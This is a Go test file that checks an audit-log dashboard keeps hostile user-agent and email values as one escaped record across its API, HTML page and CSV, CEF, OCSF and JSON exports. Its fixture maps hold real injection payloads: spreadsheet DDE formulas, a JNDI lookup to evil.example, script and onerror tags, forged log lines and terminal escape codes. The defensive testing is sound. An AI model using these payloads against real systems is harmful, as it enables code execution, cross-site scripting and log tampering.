package handlers_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"html"
	"io"
	"net/http"
	"net/netip"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"unicode"

	"patronus.internal/dashboard/handlers"
	"patronus.internal/dashboard/security"
	"patronus.internal/dashboard/security/audit"
	"patronus.internal/dashboard/security/secerr"
	"patronus.internal/dashboard/security/secret"
	"patronus.internal/dashboard/security/securitytest"
	"patronus.internal/dashboard/security/session"
)

// byHeader are user agents that a header can carry, and what a log, a table, a
// terminal or a page would make of them if it believed them.
var byHeader = map[string]string{
	"a line separator":      "a\u2028forged: line\u2029another",
	"a next line":           "a\u0085forged: line",
	"another direction":     "a\u202egnp.exe\u2066x\u2069",
	"nothing to be seen":    "\u200b\ufeff\u2060",
	"a formula":             `=cmd|' /C calc'!A0`,
	"a formula by its sign": "@SUM(1+1)*cmd|' /C calc'!A0",
	"a wide formula":        "＝1+1",
	"quotes":                `","event_type":"user_delete","x":"`,
	"the end of a cell":     `a","b"` + "\t" + `;c,'d'`,
	"the keys of CEF":       `a|b\|c=d suser=root@example.org \n outcome=success\`,
	"markup":                `<script>alert(1)</script><img src=x onerror=alert(1)>`,
	"a template":            "{{.}} ${jndi:ldap://evil.example/x} %s%n",
	"bytes that are none":   "a\xff\xfe\xc0\x80b",
	"a hundred kilobytes":   strings.Repeat("é", 50_000),
}

// fromInside are those that only another caller of the service could bring: no
// server of HTTP lets them pass (cmd/dashboard has a test of that).
var fromInside = map[string]string{
	"another line":           "a\r\n2026-01-02T03:04:05Z forged: line",
	"a lone line feed":       "a\n{\"id\":1}",
	"a lone carriage return": "a\rforged",
	"a colour":               "\x1b[31mred\x1b]0;title\x07\x9b2J",
	"the end of a text":      "a\x00b\x08\x7f",
	"a formula on a tab":     "\t=1+1",
	"a mebibyte":             strings.Repeat("A", 1<<20),
}

// TestHostileTextStaysOneRecord: whatever a client says that it is, each format
// of the log has one record of it, which says the same everywhere.
func TestHostileTextStaysOneRecord(t *testing.T) {
	l := startLive(t)
	if err := securitytest.Unlimited(l.dir); err != nil {
		t.Fatal(err)
	}
	reader := l.token(l.signIn("vera@example.org", session.API))
	cookie := l.signIn("vera@example.org", session.Browser).Secret.Reveal()
	n := 0
	account := func() string { n++; return fmt.Sprintf("hostile%d@example.org", n) }
	for name, agent := range byHeader {
		t.Run(name, func(t *testing.T) {
			email := account()
			body := strings.NewReader(`{"email":"` + email + `","password":"wrong"}`)
			if status, text := l.call(t, "POST", "/api/v1/auth/login", body, http.Header{"User-Agent": {agent}, "Content-Type": {"application/json"}}); status != http.StatusUnauthorized {
				t.Fatalf("%d: %s", status, text)
			}
			l.oneRecord(t, reader, cookie, email, agent)
		})
	}
	for name, agent := range fromInside {
		t.Run(name, func(t *testing.T) {
			email := account()
			_, err := l.service.Login(l.ctx, security.Request{IP: netip.MustParseAddr("192.0.2.7"), UserAgent: agent, ID: "inside"}, session.API, email, secret.NewText("wrong"))
			if !secerr.Is(err, secerr.InvalidCredentials) {
				t.Fatal(err)
			}
			l.oneRecord(t, reader, cookie, email, agent)
		})
	}
	// An address is no way in either: one that a spreadsheet would run is text, and
	// others are refused.
	_, err := l.service.Login(l.ctx, security.Request{}, session.API, "=1+1@example.org", secret.NewText("wrong"))
	if !secerr.Is(err, secerr.InvalidCredentials) {
		t.Fatal(err)
	}
	_, text := l.call(t, "GET", "/api/v1/audit/export?format=csv&email=%3D1%2B1@example.org", nil, http.Header{"Authorization": {"Bearer " + reader}})
	if !strings.Contains(text, ",'=1+1@example.org,") {
		t.Errorf("a spreadsheet would run %s", text)
	}
	for _, email := range []string{"a@example.org\r\nforged: line", "a@exam\u2028ple.org", "a\u202e@example.org", `"a\n"@example.org`} {
		if _, err := l.service.Login(l.ctx, security.Request{}, session.API, email, secret.NewText("wrong")); !secerr.Is(err, secerr.ValidationFailed) {
			t.Errorf("%q: %v", email, err)
		}
	}
}

// call sends a request and returns the status and the whole answer.
func (l *live) call(t *testing.T, method, path string, body io.Reader, header http.Header) (int, string) {
	t.Helper()
	request, err := http.NewRequestWithContext(l.ctx, method, l.url+path, body)
	if err != nil {
		t.Fatal(err)
	}
	request.Header = header
	response, err := (&http.Client{Transport: handlers.Described{T: t}}).Do(request)
	if err != nil {
		t.Fatal(err)
	}
	text, err := io.ReadAll(response.Body)
	if err != nil {
		t.Fatal(err)
	}
	if err := response.Body.Close(); err != nil {
		t.Fatal(err)
	}
	return response.StatusCode, string(text)
}

// oneRecord reads the event of a sign-in back from the list, the page and every
// format.
func (l *live) oneRecord(t *testing.T, reader, cookie, email, agent string) {
	t.Helper()
	want := audit.UserAgent(agent)
	if len(want) > 256 || len(agent) > 256 && !strings.HasSuffix(want, "…") {
		t.Errorf("it is kept as %d bytes, %q", len(want), want)
	}
	bearer := http.Header{"Authorization": {"Bearer " + reader}}
	get := func(path string) string {
		t.Helper()
		status, text := l.call(t, "GET", path, nil, bearer)
		if status != http.StatusOK {
			t.Fatalf("%s answers %d: %s", path, status, text)
		}
		return text
	}
	type event struct {
		ID        int64   `json:"id"`
		UserAgent *string `json:"user_agent"`
	}
	same := func(where string, events []event) {
		t.Helper()
		if len(events) != 1 || events[0].UserAgent == nil || *events[0].UserAgent != want {
			t.Errorf("%s has %d records: %+v", where, len(events), events)
		}
	}
	var list struct{ Items []event }
	unmarshal(t, get("/api/v1/audit?email="+email), &list)
	same("the list", list.Items)
	status, page := l.call(t, "GET", fmt.Sprintf("/audit/%d", list.Items[0].ID), nil, http.Header{"Cookie": {"patronus=" + cookie}})
	if status != http.StatusOK || !strings.Contains(page, html.EscapeString(want)) || strings.Contains(page, "<script>alert") || strings.Contains(page, "<img src=x") {
		t.Errorf("the page answers %d: %s", status, page)
	}

	export := func(format string) string {
		text := get("/api/v1/audit/export?" + url.Values{"format": {format}, "email": {email}}.Encode())
		onlyLineEnds(t, format, text)
		return text
	}
	var events []event
	unmarshal(t, export("json"), &events)
	same("json", events)

	var one event
	unmarshal(t, oneLine(t, export("ndjson")), &one)
	same("ndjson", []event{one})

	rows, err := csv.NewReader(strings.NewReader(export("csv"))).ReadAll()
	if err != nil || len(rows) != 2 || rows[0][8] != "user_agent" {
		t.Fatalf("csv has %d rows, %v", len(rows), err)
	}
	if got := rows[1][8]; strings.TrimPrefix(got, "'") != want || strings.ContainsAny(got[:1], "=+-@\t\r\n") || strings.HasPrefix(got, "＝") {
		t.Errorf("csv has the cell %q", got)
	}

	line := oneLine(t, export("cef"))
	found := regexp.MustCompile(` requestClientApplication=((?:[^=\\]|\\.)*) cs3=`).FindStringSubmatch(line)
	if !strings.HasPrefix(line, "CEF:0|") || strings.Count(line, " suser=") != 1 || found == nil {
		t.Fatalf("cef is %s", line)
	}
	if got := strings.NewReplacer(`\\`, `\`, `\=`, `=`).Replace(found[1]); got != want {
		t.Errorf("cef has %q", got)
	}

	var ocsf struct {
		ClassUID    int `json:"class_uid"`
		HTTPRequest struct {
			UserAgent string `json:"user_agent"`
		} `json:"http_request"`
	}
	unmarshal(t, oneLine(t, export("ocsf")), &ocsf)
	if ocsf.ClassUID != 3002 || ocsf.HTTPRequest.UserAgent != want {
		t.Errorf("ocsf has %+v", ocsf)
	}
}

func unmarshal(t *testing.T, text string, to any) {
	t.Helper()
	if err := json.Unmarshal([]byte(text), to); err != nil {
		t.Fatalf("%v: %s", err, text)
	}
}

// oneLine is the only line of a text.
func oneLine(t *testing.T, text string) string {
	t.Helper()
	line, rest, ended := strings.Cut(text, "\n")
	if !ended || rest != "" {
		t.Fatalf("not one line: %q", text)
	}
	return line
}

// onlyLineEnds finds what a reader could take for the end of a line or of the
// text, or for an order to a terminal.
func onlyLineEnds(t *testing.T, format, text string) {
	t.Helper()
	if format == "csv" {
		text = strings.ReplaceAll(text, "\r\n", "\n")
	}
	at := bytes.IndexFunc([]byte(text), func(r rune) bool {
		return r != '\n' && unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp)
	})
	if at >= 0 {
		t.Errorf("%s has a control character: %q", format, text[at:])
	}
}
